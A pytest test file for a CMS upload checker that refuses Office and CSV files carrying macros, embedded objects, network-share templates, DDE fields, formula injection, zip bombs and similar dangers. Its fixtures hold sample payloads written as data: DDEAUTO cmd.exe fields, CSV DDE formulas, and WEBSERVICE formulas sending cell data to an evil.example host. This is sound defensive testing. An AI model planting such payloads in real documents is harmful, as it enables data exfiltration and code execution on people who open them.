"""Guidance documents that are not PDFs (cms/document_checks.py): Office files with macros, embedded programs or links
to other files, CSV cells a spreadsheet runs as formulas, and files whose content is not what their name says are
refused through Wagtail's document upload; ordinary ones are stored."""

import html
import io
import tracemalloc
import warnings
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from wagtail.documents.models import Document
from wagtail.models import Collection

from cms.document_checks import MAX_PARTS, MAX_XML_PART_BYTES, OFFICE_EXTENSIONS, DocumentProblem, document_problem
from tests.factories.advice_forms import pdf_bytes
from tests.office_files import CT, REL, W, docx, docx_parts, package, rels, strict, unc_template_docx, xlsx, xlsx_parts

WORD = "a Word document"
EXCEL = "an Excel spreadsheet"


def _add(client, data, name, url="/admin/documents/add/"):
    return client.post(
        url,
        {
            "title": "Guidance",
            "file": SimpleUploadedFile(name, data, content_type="application/octet-stream"),
            "collection": Collection.get_first_root_node().pk,
        },
    )


def test_ordinary_word_excel_csv_and_text_files_are_stored_through_the_admin(verified_admin_client):
    files = [
        (
            "leaflet.docx",
            docx(document_rels=[("hyperlink", "https://www.example.org/children-with-send", "External")]),
        ),
        ("schools.xlsx", xlsx()),
        ("schools.csv", b"school,phase,balance\nOakfield,Primary,-3.5\nSt Anne's,Secondary,+44 20 7946 0000\n"),
        ("notes.txt", "Caf\u00e9 opening times\r\n".encode("cp1252")),
    ]
    responses = [_add(verified_admin_client, data, name).status_code for name, data in files]

    assert responses == [302, 302, 302, 302]
    assert Document.objects.count() == 4


def test_the_penetration_tests_word_file_with_a_template_on_a_network_share_is_refused(verified_admin_client):
    response = _add(verified_admin_client, unc_template_docx(), "leaflet.docx")

    assert response.status_code == 200
    assert html.escape(DocumentProblem.TEMPLATE) in response.content.decode()
    assert not Document.objects.exists()


def test_the_multiple_uploader_refuses_it_too(verified_admin_client):
    response = verified_admin_client.post(
        "/admin/documents/multiple/add/",
        {
            "files[]": SimpleUploadedFile("leaflet.docx", unc_template_docx()),
            "collection": Collection.get_first_root_node().pk,
        },
    )

    assert html.escape(DocumentProblem.TEMPLATE) in response.content.decode()
    assert not Document.objects.exists()


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("leaflet.docx", pdf_bytes(), DocumentProblem.WRONG_KIND.format(kind=WORD, extension="docx")),
        ("schools.csv", xlsx(), DocumentProblem.WRONG_KIND.format(kind="a CSV file", extension="csv")),
        ("schools.xlsx", docx(), DocumentProblem.WRONG_KIND.format(kind=EXCEL, extension="xlsx")),
        (
            "notes.txt",  # a Windows program's first bytes: refused for its NUL bytes
            b"MZ\x90\x00\x03\x00\x00\x00\x04\x00",
            DocumentProblem.WRONG_KIND.format(kind="a text file", extension="txt"),
        ),
        (
            "schools.csv",
            b'name,total\nOakfield,"=HYPERLINK(""https://evil.example"",""Click"")"\n',
            DocumentProblem.FORMULA.format(row=2),
        ),
    ],
    ids=["pdf-named-docx", "zip-named-csv", "word-named-xlsx", "program-named-txt", "csv-formula"],
)
def test_files_that_are_not_what_their_name_says_or_carry_formulas_are_refused(
    verified_admin_client, name, data, message
):
    response = _add(verified_admin_client, data, name)

    assert response.status_code == 200
    assert html.escape(message) in response.content.decode()
    assert not Document.objects.exists()


def test_every_extension_staff_may_upload_has_a_content_check(settings):
    assert set(settings.WAGTAILDOCS_EXTENSIONS) <= {"pdf", "csv", "txt", *OFFICE_EXTENSIONS}


# --- Office Open XML ---

VBA = "application/vnd.ms-office.vbaProject"


def _with(parts, **more):
    return package({**parts, **more})


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (
            _with(docx_parts(types={"word/vbaProject.bin": VBA}), **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
            DocumentProblem.MACROS,
        ),
        (_with(docx_parts(), **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), DocumentProblem.MACROS),
        (
            docx(types={"word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}),
            DocumentProblem.MACROS,
        ),
        (docx(document_rels=[("oleObject", "embeddings/oleObject1.bin")]), DocumentProblem.EMBEDDED_PROGRAM),
        (
            docx(types={"word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"}),
            DocumentProblem.EMBEDDED_PROGRAM,
        ),
        (
            _with(docx_parts(), **{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
            DocumentProblem.EMBEDDED_PROGRAM,
        ),
        (docx(document_rels=[("image", "https://tracker.example/pixel.png", "External")]), DocumentProblem.LINKED_FILE),
        (
            docx(document_rels=[("attachedTemplate", "file:///C:/Templates/Normal.dotm", "External")]),
            DocumentProblem.TEMPLATE,
        ),
        (docx(document_rels=[("subDocument", r"\\host\share\part.docx")]), DocumentProblem.LINKED_FILE),
        (
            docx(settings_rels=[(f"{REL}/attachedTemplate/hyperlink", "https://evil.example/t.dotm", "External")]),
            DocumentProblem.LINKED_FILE,
        ),
        (
            docx(settings_rels=[("http://evil.example/hyperlink", "https://evil.example/t.dotm", "External")]),
            DocumentProblem.LINKED_FILE,
        ),
        (docx(document_rels=[("hyperlink", r"\\host\share\minutes.docx", "External")]), DocumentProblem.FILE_LINK),
        (docx(document_rels=[("hyperlink", "file://host/share/minutes.docx", "External")]), DocumentProblem.FILE_LINK),
        (docx(document_rels=[("hyperlink", "%66ile://host/x", "External")]), DocumentProblem.FILE_LINK),
        (docx(document_rels=[("hyperlink", "minutes.docx", "External")]), DocumentProblem.FILE_LINK),
        (
            docx(document_rels=[("hyperlink", "mailto:send@example.org?attach=//host/x", "External")]),
            DocumentProblem.FILE_LINK,
        ),
        (
            docx(document_rels=[("hyperlink", "search-ms:query=x&amp;crumb=location:\\\\host", "External")]),
            DocumentProblem.FILE_LINK,
        ),
        (
            xlsx(workbook_rels=[("externalLinkPath", r"\\host\share\[budget.xlsx]", "External")]),
            DocumentProblem.LINKED_FILE,
        ),
        (xlsx(types={"xl/connections.xml": f"{CT}.spreadsheetml.connections+xml"}), DocumentProblem.LINKED_FILE),
        (xlsx(types={"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"}), DocumentProblem.MACROS),
    ],
    ids=[
        "vba-project",
        "vba-project-undeclared",
        "docm-content-type",
        "ole-object",
        "activex",
        "embedded-ole-file",
        "external-image",
        "file-template",
        "unc-subdocument-without-target-mode",
        "template-typed-to-end-in-hyperlink",
        "unknown-type-ending-in-hyperlink",
        "unc-hyperlink",
        "file-hyperlink",
        "encoded-file-hyperlink",
        "relative-file-hyperlink",
        "mailto-attachment",
        "search-ms",
        "excel-external-link",
        "excel-data-connection",
        "excel-4-macro-sheet",
    ],
)
def test_office_files_that_run_code_or_open_other_files_are_refused(data, message):
    extension = "xlsx" if b"xl/workbook.xml" in data else "docx"

    assert document_problem(extension, data) == message


def _runs(code_runs: list[str]) -> str:
    """The runs of one field: its code, in as many runs as given, then its result."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' for text in code_runs)
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _field(code_runs: list[str]) -> str:
    return f"<w:p>{_runs(code_runs)}</w:p>"


@pytest.mark.parametrize(
    "body",
    [
        _field(['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"']),
        _field(["INCLUDE", 'PICTURE "\\\\host\\x.png" \\d']),
        '<w:p><w:fldSimple w:instr=" INCLUDETEXT \\\\host\\share\\x.docx"/></w:p>',
        # INCLUDEPICTURE spelt by a QUOTE field nested where the field's name should be
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText>QUOTE "INCLUDEPICTURE"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:instrText> "\\\\host\\x.png"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    ],
    ids=["ddeauto", "includepicture-split-over-runs", "includetext-simple-field", "name-from-nested-field"],
)
def test_word_fields_that_run_a_command_or_fetch_a_file_are_refused(body):
    assert document_problem("docx", docx(body=body)) == DocumentProblem.LINKED_FILE


def test_strict_open_xml_word_files_are_checked_as_transitional_ones_are():
    """Word's "Strict Open XML Document" writes its markup and relationship types in other namespaces."""
    fields = [
        _field(['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"']),
        _field(['INCLUDEPICTURE "\\\\\\\\host\\\\s\\\\a.png"']),
        '<w:p><w:fldSimple w:instr=" INCLUDETEXT \\\\host\\share\\x.docx"/></w:p>',
    ]
    unc_hyperlink = [("hyperlink", r"\\host\share\minutes.docx", "External")]
    web_hyperlink = [("hyperlink", "https://www.example.org/", "External")]

    assert [document_problem("docx", package(strict(docx_parts(body=body)))) for body in fields] == [
        DocumentProblem.LINKED_FILE
    ] * 3
    assert document_problem("docx", package(strict(docx_parts(document_rels=unc_hyperlink)))) == (
        DocumentProblem.FILE_LINK
    )
    assert (
        document_problem("docx", package(strict(docx_parts(body=_field([" PAGE "]), document_rels=web_hyperlink))))
        is None
    )


@pytest.mark.parametrize(
    "code",
    [
        'HYPERLINK "\\\\host\\share\\minutes.docx"',
        'HYPERLINK \\o "Minutes" "file:///C:/minutes.docx"',
        "HYPERLINK minutes.docx",
    ],
    ids=["unc", "file-after-a-switch", "relative"],
)
def test_word_hyperlink_fields_to_files_are_refused(code):
    assert document_problem("docx", docx(body=_field([code]))) == DocumentProblem.FILE_LINK


def test_ordinary_word_fields_and_links_pass():
    nested_in_result = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>TOC \\o</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + _runs([" PAGEREF _Toc1 \\h "])
        + _runs([' HYPERLINK \\l "_Toc1" '])
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    body = (
        _field([" PAGE "])
        + _field([' HYPERLINK "https://www.example.org/" \\o "Read the link" '])
        + nested_in_result
        + _field(["IF 1 = 1 ", ' "Yes" "No"'])
    )
    rels = [
        ("hyperlink", "https://www.example.org/", "External"),
        ("hyperlink", "mailto:send@example.org?subject=Advice", "External"),
        ("image", "media/image1.png"),
    ]

    assert document_problem("docx", docx(body=body, document_rels=rels)) is None


def test_ordinary_office_links_pass_as_they_do_in_a_pdf():
    """A workbook's link to one of its own sheets (openpyxl, LibreOffice), and phone links, as in a PDF."""
    workbook = xlsx(workbook_rels=[("hyperlink", "#Schools!A1", "External")])
    phone = docx(
        body=_field([' HYPERLINK "tel:+442079460000" ']),
        document_rels=[("hyperlink", "tel:+44-20-7946-0000", "External")],
    )

    assert document_problem("xlsx", workbook) is None
    assert document_problem("docx", phone) is None


def test_a_word_file_made_from_a_template_on_a_computer_says_how_to_unlink_it():
    template = r"file:///C:\Users\jo.bloggs\AppData\Roaming\Microsoft\Templates\Letter.dotx"
    problem = document_problem("docx", docx(settings_rels=[("attachedTemplate", template, "External")]))

    assert problem == DocumentProblem.TEMPLATE
    assert "template" in problem and "Templates and Add-ins" in problem


def test_a_picture_fetched_from_the_web_is_refused_in_plain_words():
    body = _field(['INCLUDEPICTURE "https://www.example.org/logo.png" \\* MERGEFORMATINET \\d'])
    on_a_share = _field(['INCLUDEPICTURE "\\\\\\\\host\\\\s\\\\a.png"'])

    assert document_problem("docx", docx(body=body)) == DocumentProblem.PICTURE_FROM_WEB
    assert "fetched from the web" in DocumentProblem.PICTURE_FROM_WEB
    assert document_problem("docx", docx(body=on_a_share)) == DocumentProblem.LINKED_FILE


def _formula(formula: str) -> bytes:
    return xlsx(cells=f'<c r="C1"><f>{html.escape(formula, quote=False)}</f><v>0</v></c>')


@pytest.mark.parametrize(
    "formula",
    [
        'HYPERLINK("file://host/share/minutes.xlsx","Minutes")',
        'HYPERLINK("\\\\host\\share\\minutes.xlsx")',
        "HYPERLINK(A2)",
        'HYPERLINK("https://"&A2)',
        '_xlfn.WEBSERVICE("https://evil.example/?"&A1)',
        'FILTERXML(B1,"//a")',
        "cmd|' /C calc'!A0",
        "[1]Budget!A1",
        "'[1]Budget 2024'!A1",
        "SUM(1,[1]Budget!A1)",
        "'a\"b'!A1&WEBSERVICE(\"https://evil.example/\")&'c\"d'!A1",
    ],
    ids=[
        "file",
        "unc",
        "from-a-cell",
        "built",
        "webservice",
        "filterxml",
        "dde",
        "other-workbook",
        "other-workbook-quoted",
        "other-workbook-after-a-comma",
        "quote-in-a-sheet-name",
    ],
)
def test_excel_formulas_that_fetch_or_open_another_file_are_refused(formula):
    assert document_problem("xlsx", _formula(formula)) == DocumentProblem.FORMULA_OUTSIDE


def test_ordinary_excel_formulas_pass():
    formulas = [
        'HYPERLINK("https://www.example.org/","Guidance")',
        'HYPERLINK("#Schools!A1", "Back to the list")',
        "SUM(B1:B2)",
        '"a|b [1]"&A1',
        "SUM(Table1[Total])",
        "SUM(Budget[2024])",
        "SUM(Budget[[#This Row],[2024]])",
        "'Register (2024)'!A1",
        "'Exec (summary)'!A1+'It''s call (x)'!A1",
    ]

    assert [document_problem("xlsx", _formula(formula)) for formula in formulas] == [None] * len(formulas)


def test_a_chart_workbook_embedded_in_a_word_document_is_checked_as_a_workbook():
    chart = _with(docx_parts(), **{"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx()})
    with_macros = _with(
        docx_parts(),
        **{"word/embeddings/Microsoft_Excel_Worksheet.xlsx": _with(xlsx_parts(), **{"xl/vbaProject.bin": b"x"})},
    )

    assert document_problem("docx", chart) is None
    assert document_problem("docx", with_macros) == DocumentProblem.MACROS


def test_zip_bombs_and_damaged_packages_are_refused(settings):
    settings.PORTAL_MAX_UPLOAD_MB = 1  # 40MB when opened
    bomb = _with(docx_parts(), **{"word/media/image1.png": bytes(41 * 1024 * 1024)})
    many = _with(docx_parts(), **{f"word/media/image{n}.png": b"" for n in range(MAX_PARTS)})
    plain_zip = package({"word/document.xml": word_xml()})

    assert len(bomb) < 100_000
    assert document_problem("docx", bomb) == DocumentProblem.TOO_BIG_WHEN_OPENED
    assert document_problem("docx", many) == DocumentProblem.TOO_BIG_WHEN_OPENED
    assert document_problem("docx", docx()[:-40]) == DocumentProblem.UNREADABLE.format(kind=WORD)
    assert document_problem("docx", plain_zip) == DocumentProblem.WRONG_KIND.format(kind=WORD, extension="docx")


@pytest.mark.parametrize("compression", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA], ids=["bzip2", "lzma"])
def test_parts_compressed_other_than_office_does_are_unreadable(compression):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in docx_parts().items():
            archive.writestr(name, content)
    data = buffer.getvalue()
    start = data.index(b"word/document.xml") + len("word/document.xml")
    damaged = data[:start] + bytes(b ^ 0x55 for b in data[start : start + 40]) + data[start + 40 :]

    assert document_problem("docx", data) == DocumentProblem.UNREADABLE.format(kind=WORD)
    assert document_problem("docx", damaged) == DocumentProblem.UNREADABLE.format(kind=WORD)


def test_an_xml_part_too_large_when_opened_is_refused_by_its_size():
    body = "<w:p><w:r><w:t>Support</w:t></w:r></w:p>" * (MAX_XML_PART_BYTES // 40)
    data = docx(body=body)

    assert len(data) < 1_000_000
    assert document_problem("docx", data) == DocumentProblem.PART_TOO_BIG
    assert "10MB" in DocumentProblem.PART_TOO_BIG and MAX_XML_PART_BYTES == 10 * 1024 * 1024


def test_xml_parts_are_read_as_they_stream_past_not_kept():
    """200,000 empty elements in a relationships part and in the document: checking them holds a few MB at most,
    where keeping each element took some 70MB."""
    many = "<a/>" * 200_000
    relationships = rels(("settings", "settings.xml")).replace("</Relationships>", many + "</Relationships>")
    data = _with(docx_parts(body=many), **{"word/_rels/document.xml.rels": relationships})

    tracemalloc.start()
    try:
        problem = document_problem("docx", data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert problem is None
    assert peak < 8 * 1024 * 1024


def word_xml():
    return f'<w:document xmlns:w="{W}"/>'


def test_xml_with_a_dtd_is_refused():
    laughs = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">]><w:document xmlns:w="x">&a;</w:document>'
    data = _with(docx_parts(), **{"word/document.xml": laughs})

    assert document_problem("docx", data) == DocumentProblem.UNREADABLE.format(kind=WORD)


def test_a_truncated_zip_entry_is_unreadable_not_an_error():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types")

    assert document_problem("xlsx", buffer.getvalue()) == DocumentProblem.UNREADABLE.format(kind=EXCEL)


# --- CSV and text ---


@pytest.mark.parametrize(
    ("data", "row"),
    [
        (b"a,b\n=1+1,2\n", 2),
        (b"@SUM(A1:A2)\n", 1),
        (b"+cmd|' /C calc'!A0\n", 1),
        (b"-2+3+cmd|' /C calc'!A0\n", 1),
        (b'"\t=HYPERLINK(""https://evil.example"")"\n', 1),
        (b'x,"\r=1"\n', 1),
        (b"name;total\nOakfield;=1+1\n", 2),
        (b"a\tb\n1\t=1\n", 2),
        (b" =1+1\n", 1),
        (b"a,b\nx;-cmd|' /C calc'!A0,y\n", 2),
        (b"a,b\nx;=1+1,y\n", 2),
        (b"sep=|\nname|total\nOakfield|=1+1\n", 2),
        (b"sep=|\nname|total\nOakfield|-2+3+cmd|' /C calc'!A0\n", 2),
        (b"Note\n@CouncilSEND\n", 2),
        (b"Note\nOakfield\n- see note\n", 3),
    ],
    ids=[
        "equals",
        "at",
        "plus-dde",
        "minus-dde",
        "tab-then-equals",
        "cr-then-equals",
        "semicolons",
        "tabs",
        "space",
        "dde-after-a-semicolon-in-a-comma-file",
        "formula-after-a-semicolon-in-a-comma-file",
        "excel-sep-line",
        "excel-sep-line-dde",
        "twitter-handle",
        "dash-note",
    ],
)
def test_csv_cells_a_spreadsheet_would_run_are_refused(data, row):
    assert document_problem("csv", data) == DocumentProblem.FORMULA.format(row=row)


def test_csv_numbers_dates_and_text_pass():
    data = "School,Balance,Phone,Note\nOakfield,-1200.50,+44 20 7946 0000,Caf\u00e9 (open)\n,-,+,\n".encode()

    assert document_problem("csv", data) is None
    assert document_problem("csv", "a,b\n".encode("utf-16")) is None


def test_csv_signed_values_semicolons_in_cells_and_long_cells_pass():
    values = "Balance,Change,Total,Phone,Phone\n-\u00a33.50,-3%,-1.2E+05,+44 (0)20 7946 0000,+44-20-7946-0000\n"
    semicolon = 'School,Note\nOakfield,Mon; -3 hours\nSt Anne\'s,"Tue; +1 extra"\n'
    long_cell = "School,Note\nOakfield," + "x" * 200_000 + "\n"
    excel_sep = "sep=;\nSchool;Balance\nOakfield;-3,50\n"

    assert [document_problem("csv", text.encode()) for text in (values, semicolon, long_cell, excel_sep)] == [None] * 4


def test_a_csv_file_whose_sep_line_names_the_quote_is_unreadable():
    data = b'sep="\nname"total\nOakfield"=1+1\n'

    assert document_problem("csv", data) == DocumentProblem.UNREADABLE.format(kind="a CSV file")


def test_the_csv_formula_message_says_how_to_keep_such_a_cell():
    assert "Put an apostrophe (') before it" in DocumentProblem.FORMULA


@pytest.mark.parametrize(
    "data",
    [b"text\x00more", b"\x7fELF\x02\x01", b"PK\x03\x04", b"%PDF-1.7", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"a\x01b"],
    ids=["nul", "elf", "zip", "pdf", "ole", "control-character"],
)
def test_text_files_must_be_text(data):
    assert document_problem("txt", data) == DocumentProblem.WRONG_KIND.format(kind="a text file", extension="txt")


def test_notes_starting_with_mz_and_word_line_breaks_are_text():
    assert document_problem("txt", b"MZ Smith called about the EHCP review\r\n") is None
    assert document_problem("txt", b"Line one\x0bline two of the same paragraph\r\n") is None


def test_a_word_document_kept_outside_word_has_its_fields_checked():
    """The package's relationships name the main part; the retest's file kept it at doc/document.xml, and only parts
    under word/ were read for fields."""
    body = _field(['INCLUDEPICTURE "\\\\\\\\10.0.0.1\\\\s\\\\a.png" \\d'])
    parts = docx_parts(body=body, types={"doc/document.xml": f"{CT}.wordprocessingml.document.main+xml"})
    parts["doc/document.xml"] = parts.pop("word/document.xml")
    parts["_rels/.rels"] = rels(("officeDocument", "doc/document.xml"))

    assert document_problem("docx", package(parts)) == DocumentProblem.LINKED_FILE


def test_a_sheet_kept_outside_worksheets_has_its_formulas_checked():
    parts = xlsx_parts(cells='<c r="C1"><f>WEBSERVICE("https://evil.example/?"&amp;A1)</f></c>')
    parts["xl/other/sheet1.xml"] = parts.pop("xl/worksheets/sheet1.xml")
    parts["xl/_rels/workbook.xml.rels"] = rels(("worksheet", "other/sheet1.xml"))

    assert document_problem("xlsx", package(parts)) is not None


def test_a_package_holding_two_parts_of_one_name_is_refused():
    """Which of the two Office reads is not ours to guess: the retest's file had an empty second copy of the
    relationships after one pointing the template at a network share."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name it is asked to write
        for name, content in docx_parts(
            settings_rels=[("attachedTemplate", r"\\host\share\t.dotm", "External")]
        ).items():
            archive.writestr(name, content)
        archive.writestr("word/_rels/settings.xml.rels", rels())

    assert document_problem("docx", buffer.getvalue()) == DocumentProblem.UNREADABLE.format(kind="a Word document")


@pytest.mark.parametrize("name", ["word/document.bin", "word/document", "word/document.XML"])
def test_a_word_document_under_a_name_not_ending_in_xml_has_its_fields_checked(name):
    """The reviewer's file: the content types and the package's relationships name the main part, whatever its
    name; only parts whose names ended in .xml were read for fields."""
    body = _field(['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"'])
    parts = docx_parts(body=body, types={name: f"{CT}.wordprocessingml.document.main+xml"})
    parts[name] = parts.pop("word/document.xml")
    parts["_rels/.rels"] = rels(("officeDocument", name))
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        f'<Override PartName="/word/document.xml" ContentType="{CT}.wordprocessingml.document.main+xml"/>', ""
    )

    assert document_problem("docx", package(parts)) == DocumentProblem.LINKED_FILE


def test_a_sheet_under_a_name_not_ending_in_xml_has_its_formulas_checked():
    parts = xlsx_parts(
        cells='<c r="C1"><f>WEBSERVICE("https://evil.example/?"&amp;A1)</f></c>',
        types={"xl/worksheets/sheet1.bin": f"{CT}.spreadsheetml.worksheet+xml"},
    )
    parts["xl/worksheets/sheet1.bin"] = parts.pop("xl/worksheets/sheet1.xml")
    parts["xl/_rels/workbook.xml.rels"] = rels(("worksheet", "worksheets/sheet1.bin"))

    assert document_problem("xlsx", package(parts)) == DocumentProblem.FORMULA_OUTSIDE


def test_an_xml_part_under_another_name_is_held_to_the_size_limit():
    body = "<w:p><w:r><w:t>Support</w:t></w:r></w:p>" * (MAX_XML_PART_BYTES // 40)
    parts = docx_parts(types={"word/notes.bin": f"{CT}.wordprocessingml.footnotes+xml"})
    parts["word/notes.bin"] = docx_parts(body=body)["word/document.xml"]

    assert document_problem("docx", package(parts)) == DocumentProblem.PART_TOO_BIG


def test_a_package_embedded_outside_embeddings_is_checked_as_one():
    """A workbook kept at word/media/x.xlsx, reached through a package relationship, was never opened."""
    with_macros = _with(xlsx_parts(), **{"xl/vbaProject.bin": b"x"})
    document_rels = [("package", "media/x.xlsx")]
    hidden = _with(docx_parts(document_rels=document_rels), **{"word/media/x.xlsx": with_macros})
    as_bin = _with(docx_parts(document_rels=[("package", "media/x.bin")]), **{"word/media/x.bin": xlsx()})
    plain = _with(docx_parts(document_rels=document_rels), **{"word/media/x.xlsx": xlsx()})

    assert document_problem("docx", hidden) == DocumentProblem.MACROS
    assert document_problem("docx", as_bin) == DocumentProblem.EMBEDDED_PROGRAM
    assert document_problem("docx", plain) is None


def test_a_workbook_with_a_comment_passes():
    """Excel keeps a cell comment's box in a VML drawing, whose content type is one of Office's but no package."""
    from openpyxl import Workbook
    from openpyxl.comments import Comment

    workbook = Workbook()
    workbook.active["A1"] = "Oakfield"
    workbook.active["A1"].comment = Comment("Check the figures", "Jo")
    data = io.BytesIO()
    workbook.save(data)

    assert document_problem("xlsx", data.getvalue()) is None


def _deleted(*pieces: str) -> str:
    """A tracked deletion of a field: its code pieces in w:delInstrText (a piece starting { or } is a field's
    begin or end mark)."""
    runs = []
    for piece in pieces:
        if piece in ("{", "}"):
            runs.append(f'<w:r><w:fldChar w:fldCharType="{"begin" if piece == "{" else "end"}"/></w:r>')
        else:
            runs.append(f'<w:r><w:delInstrText xml:space="preserve">{piece}</w:delInstrText></w:r>')
    return f'<w:p><w:del w:id="1" w:author="Jo" w:date="2026-01-01T00:00:00Z">{"".join(runs)}</w:del></w:p>'


def test_tracked_deletions_of_fields_are_read_as_fields():
    """Reject all changes brings a deleted field back, so its code is checked as any field's is."""
    share = _deleted("{", ' INCLUDEPICTURE "\\\\\\\\host\\\\s\\\\a.png" \\d ', "}")
    page = _deleted("{", " IF ", "{", " PAGE ", "}", ' &gt; 1 "a" "b" ', "}")

    assert document_problem("docx", docx(body=share)) == DocumentProblem.LINKED_FILE
    assert document_problem("docx", docx(body=page)) is None


_MODEL = (
    '<connection id="1" keepAlive="1" name="ThisWorkbookDataModel" description="Data Model" type="5" '
    'refreshedVersion="6" background="1"><dbPr connection="Data Model Connection" command="Model" commandType="1"/>'
    '<extLst><ext uri="{DE250136-89BD-433C-8126-D09CA5730AF9}" '
    'xmlns:x15="http://schemas.microsoft.com/office/spreadsheetml/2010/11/main"><x15:connection id="" model="1"/>'
    "</ext></extLst></connection>"
)


def _with_connections(*connections: str) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    parts = xlsx_parts(
        workbook_rels=[("connections", "connections.xml")],
        types={"xl/connections.xml": f"{CT}.spreadsheetml.connections+xml"},
    )
    parts["xl/connections.xml"] = (
        f'<?xml version="1.0"?><connections xmlns="{main}">{"".join(connections)}</connections>'
    )
    return package(parts)


def test_a_workbook_using_its_own_data_model_passes_and_other_connections_are_refused():
    """Excel's Data Model keeps a connection to the model inside the workbook (ThisWorkbookDataModel), which opens
    nothing else; a connection to a database, a text file or an .odc file does."""
    odbc = (
        '<connection id="2" name="Pupils" type="1" odcFile="\\\\host\\s\\p.odc"><dbPr connection="DSN=x"/></connection>'
    )
    text = '<connection id="3" name="List" type="6"><textPr sourceFile="C:\\list.csv"/></connection>'

    assert document_problem("xlsx", _with_connections(_MODEL)) is None
    assert document_problem("xlsx", _with_connections(_MODEL, odbc)) == DocumentProblem.LINKED_FILE
    assert document_problem("xlsx", _with_connections(text)) == DocumentProblem.LINKED_FILE
    assert document_problem("xlsx", _with_connections()) == DocumentProblem.LINKED_FILE
